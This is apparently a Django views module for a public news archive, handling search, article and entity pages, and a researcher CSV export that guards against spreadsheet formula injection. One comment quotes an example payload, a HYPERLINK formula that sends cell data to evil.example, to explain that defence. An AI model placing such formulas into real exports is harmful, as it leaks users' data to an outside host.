import csv
from datetime import date

from django.conf import settings
from django.core.paginator import Paginator
from django.http import Http404, HttpResponse
from django.shortcuts import redirect, render
from django.views.decorators.http import require_safe

from .. import selectors
from ..models import Article, EntityKind
from . import citations
from .caching import archive_version, public_page
from .common import (
    TIMEOUT_MESSAGE,
    BadRequest,
    PageOutOfRange,
    SearchTimeout,
    article_filter,
    page_number,
    run_search,
)

INDEX_PAGE_SIZE = 100

EXPORT_LIMIT = 10_000

# A spreadsheet reads a cell starting with one of these as a formula (or as the start of one):
# `=HYPERLINK("http://evil.example/?"&A1)` in an article title would send a researcher's data
# away when they open the export. OWASP's advice ("CSV Injection"): prefix a single quote.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    """`value` as a CSV cell no spreadsheet evaluates: every export writes its cells through
    this (text starting with = + - @ tab or CR gets a leading ')."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_row(values) -> list[str]:
    return [csv_cell(v) for v in values]


@require_safe
@public_page
def home(request):
    version = archive_version(request)
    return render(
        request,
        "archive/home.html",
        {
            "counts": selectors.archive_counts(version),
            "latest": Article.objects.newest_first().only(*selectors.LISTED_FIELDS)[:10],
            "top": selectors.top_entities(version),
        },
    )


@require_safe
@public_page
def search_page(request):
    try:
        filterset, results = run_search(
            request.GET, settings.SEARCH_PAGE_SIZE, version=archive_version(request)
        )
    except BadRequest as exc:
        return render(
            request,
            "archive/bad_request.html",
            {"message": str(exc), "fix": _swapped_dates(request.GET)},
            status=400,
        )
    except PageOutOfRange:
        raise Http404("That page of results does not exist.") from None
    except SearchTimeout:
        return _timed_out(request)
    params = request.GET.copy()
    params.pop("page", None)
    return render(
        request,
        "archive/search.html",
        {
            "q": request.GET.get("q", ""),
            "results": results,
            "filterset": filterset,
            "base_query": params.urlencode(),
            "hidden_params": [
                (name, value)
                for name in (*EntityKind.values, "publication")
                for value in request.GET.getlist(name)
            ],
            "kinds": list(EntityKind),
            "active_filters": filterset.active_filters(),
        },
    )


def _swapped_dates(params) -> str:
    """The query string with "from" and "to" swapped, when both are ISO dates (as the date
    inputs send them) and reversed; else ""."""
    after, before = params.get("published_after", ""), params.get("published_before", "")
    try:
        if not date.fromisoformat(after) > date.fromisoformat(before):
            return ""
    except ValueError:
        return ""
    fixed = params.copy()
    fixed["published_after"], fixed["published_before"] = before, after
    fixed.pop("page", None)
    return fixed.urlencode()


@require_safe
@public_page
def search_export(request):
    """The result set as CSV, for researchers: up to EXPORT_LIMIT rows in the requested
    order (relevance covers the search window; sort by date to export every match)."""
    try:
        _, results = run_search(
            request.GET,
            EXPORT_LIMIT,
            with_facets=False,
            with_highlights=False,
            version=archive_version(request),
        )
    except BadRequest as exc:
        return HttpResponse(str(exc), status=400, content_type="text/plain; charset=utf-8")
    except PageOutOfRange:
        raise Http404 from None
    except SearchTimeout:
        response = HttpResponse(TIMEOUT_MESSAGE, status=503, content_type="text/plain")
        response["Retry-After"] = "5"
        return response
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = 'attachment; filename="archive-search.csv"'
    response["X-Total-Matches"] = str(results.total)
    writer = csv.writer(response)
    # One column per kind of entity (agencies, contractors, programs, organizations).
    writer.writerow(
        csv_row(
            ["title", "published", "publication", "source_url", "archive_url"]
            + [k.plural for k in EntityKind]
        )
    )
    for hit in results.hits:
        a = hit.article
        writer.writerow(
            csv_row(
                [
                    a.title,
                    a.published or "",
                    a.publication,
                    a.source_url,
                    request.build_absolute_uri(a.get_absolute_url()),
                ]
                + ["; ".join(e.short_name for e in hit.entities if e.kind == k) for k in EntityKind]
            )
        )
    return response


def _timed_out(request):
    response = render(
        request,
        "archive/bad_request.html",
        {"message": TIMEOUT_MESSAGE, "q": request.GET.get("q", "")},
        status=503,
    )
    response["Retry-After"] = "5"
    return response


@require_safe
@public_page
def search_help(request):
    return render(request, "archive/search_help.html")


@require_safe
@public_page
def article(request, slug):
    page = selectors.article_page(slug)
    if page is None:
        raise Http404("No article with that address.")
    return render(
        request,
        "archive/article.html",
        {
            "page": page,
            "article": page.article,
            "citation": citations.citation_for(request, page.article),
        },
    )


@require_safe
@public_page
def entity_index(request, kind_plural):
    kind = EntityKind.from_plural(kind_plural)
    if kind is None:
        raise Http404("No such kind of entity.")
    try:
        number = page_number(request.GET.get("page"))
    except BadRequest as exc:
        return render(request, "archive/bad_request.html", {"message": str(exc)}, status=400)
    entities = selectors.ranked_entities(kind, archive_version(request))
    paginator = Paginator(entities, INDEX_PAGE_SIZE)
    if number > paginator.num_pages:
        raise Http404("That page of the list does not exist.")
    return render(
        request,
        "archive/entity_index.html",
        {"kind": kind, "page": paginator.page(number)},
    )


@require_safe
@public_page
def entity(request, kind_plural, slug):
    found, moved_to = selectors.find_entity(kind_plural, slug)
    if moved_to:
        return redirect(moved_to, permanent=True)
    if found is None:
        raise Http404("No entity with that address.")
    try:
        chosen = article_filter(request.GET)
    except BadRequest as exc:
        return render(request, "archive/bad_request.html", {"message": str(exc)}, status=400)
    page = selectors.entity_page(found, chosen, archive_version(request))
    if chosen.page != page.articles.page:
        raise Http404("That page of articles does not exist.")
    return render(request, "archive/entity.html", {"page": page, "entity": page.detail})


def not_found(request, exception):
    """The 404 page: our own reason ("No article with that address.") when a view gave one;
    never the resolver's internals (what it tried, as Django's exception carries them)."""
    reason = exception.args[0] if exception.args else ""
    message = reason if isinstance(reason, str) and request.resolver_match else ""
    return render(request, "404.html", {"message": message}, status=404)
